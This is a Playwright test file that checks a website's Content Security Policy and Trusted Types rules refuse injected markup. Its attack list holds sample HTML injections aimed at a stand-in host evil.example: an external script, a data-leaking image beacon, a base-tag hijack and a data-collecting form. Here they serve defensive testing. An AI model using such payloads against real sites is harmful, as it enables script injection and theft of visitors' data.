import type { Page } from '@playwright/test';
import { expect, hydrate, NOT_FOUND_LINES, ROUTES, test } from './fixtures';

async function noteViolations(page: Page) {
  await page.addInitScript(() => {
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      const { dataset } = document.documentElement;
      dataset.violations = `${dataset.violations ?? ''}${effectiveDirective} `;
    });
  });
}

const violations = (page: Page) => page.locator('html').getAttribute('data-violations');

/** Opens the home page with something that an attacker managed to write into it. */
async function openWith(page: Page, html: string) {
  await noteViolations(page);
  await page.route('/', async (route) => {
    const response = await route.fetch();
    const body = (await response.text()).replace('</body>', `${html}</body>`);
    await route.fulfill({ response, body });
  });
  await page.goto('/');
}

test.describe('what was written into the page is refused:', { tag: '@desktop' }, () => {
  test.use({ tolerated: /Content.Security.Policy|Trusted|csp/i });

  const attacks = [
    ['an inline script', 'script-src-elem', '<script>window.injected = true</script>'],
    [
      'an event handler',
      'script-src-attr',
      '<img src="/icones/icone.svg" alt="" onload="window.injected = true">',
    ],
    [
      'a script of another origin',
      'script-src-elem',
      '<script src="https://evil.example/a.js"></script>',
    ],
    ['an inline style', 'style-src-elem', '<style>body { display: none }</style>'],
    ['a style attribute', 'style-src-attr', '<p style="position: fixed; inset: 0">Oferta</p>'],
    ['a frame of another origin', 'frame-src', '<iframe src="https://evil.example/"></iframe>'],
    [
      'a frame of Google that is no map',
      'frame-src',
      '<iframe src="https://www.google.com/search?q=barbearia"></iframe>',
    ],
    [
      'a picture that carries data out',
      'img-src',
      '<img src="https://evil.example/?visit" alt="">',
    ],
    ['another base for every link', 'base-uri', '<base href="https://evil.example/">'],
    ['a plugin', 'object-src', '<object data="/icones/icone.svg"></object>'],
  ] as const;

  for (const [name, directive, html] of attacks) {
    test(name, async ({ page }) => {
      await openWith(page, html);
      await expect.poll(() => violations(page)).toContain(directive);
      expect(await page.evaluate(() => 'injected' in window)).toBe(false);
      await expect(page.locator('h1')).toBeVisible();
    });
  }

  test('a form that collects', async ({ page }) => {
    await openWith(
      page,
      '<form action="https://evil.example/" target="_blank"><button id="send">Ok</button></form>',
    );
    // In a tab of its own: Chromium's shell waits forever for a visit that it has stopped itself.
    await page.locator('#send').click();
    await expect.poll(() => violations(page)).toContain('form-action');
    expect(page.url()).not.toContain('evil.example');
  });

  test('before the runtime, even a script of ours, from a script @chromium', async ({ page }) => {
    await page.goto('/');
    const written = await page.evaluate(() => {
      try {
        document.createElement('script').src = '/_next/static/a.js';
        return true;
      } catch (error) {
        return !(error instanceof TypeError);
      }
    });
    expect(written).toBe(false);
  });

  test('markup and scripts of others, from a script @chromium', async ({ page }) => {
    await page.goto('/');
    await hydrate(page); // The policy comes with the runtime.
    const refused = await page.evaluate(() => {
      const throwsTypeError = (act: () => void) => {
        try {
          act();
          return false;
        } catch (error) {
          return error instanceof TypeError;
        }
      };
      const addresses = [
        '/_next/static/a.js',
        '/_next/static/../a.js',
        '/fotos/a.js',
        'https://evil.example/_next/static/a.js',
        'data:text/javascript,1',
        `blob:${location.origin}/_next/static/a.js`,
      ];
      return {
        markup: throwsTypeError(() => {
          document.createElement('div').innerHTML = '<img alt="">';
        }),
        scripts: addresses.filter((src) =>
          throwsTypeError(() => {
            document.createElement('script').src = src;
          }),
        ).length,
        secondPolicy: throwsTypeError(() => {
          window.trustedTypes?.createPolicy('default', {
            createHTML: (html) => html,
            createScriptURL: (url) => url,
          });
        }),
      };
    });
    expect(refused).toEqual({
      markup: true,
      scripts: 5, // All but the first.
      secondPolicy: true,
    });
  });
});

test.describe('the pages themselves break no rule:', () => {
  test.use({ tolerated: NOT_FOUND_LINES });

  for (const route of ROUTES) {
    test(`${route} from the first paint to the last line, hydrated`, { tag: '@desktop' }, async ({
      page,
    }) => {
      await noteViolations(page);
      await page.goto(route);
      await hydrate(page);
      await page.evaluate(() => scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
      await page.waitForTimeout(500);
      expect(await violations(page)).toBeNull();
    });
  }

  test('menu, viewer, tooltip and map', async ({ page }) => {
    await noteViolations(page);
    await page.goto('/');
    await hydrate(page);

    const menuButton = page.locator('[popovertarget="menu"]').first();
    if (await menuButton.isVisible()) {
      await menuButton.click();
      await page.keyboard.press('Escape');
    }
    await page.locator('[command="show-modal"]').first().click();
    await expect(page.getByRole('dialog')).toBeVisible();
    await page.keyboard.press('ArrowRight');
    await page.keyboard.press('Escape');
    await page.locator('iframe').scrollIntoViewIfNeeded();
    for (const link of await page.locator('footer a').all()) {
      await link.focus();
    }
    expect(await violations(page)).toBeNull();
  });
});
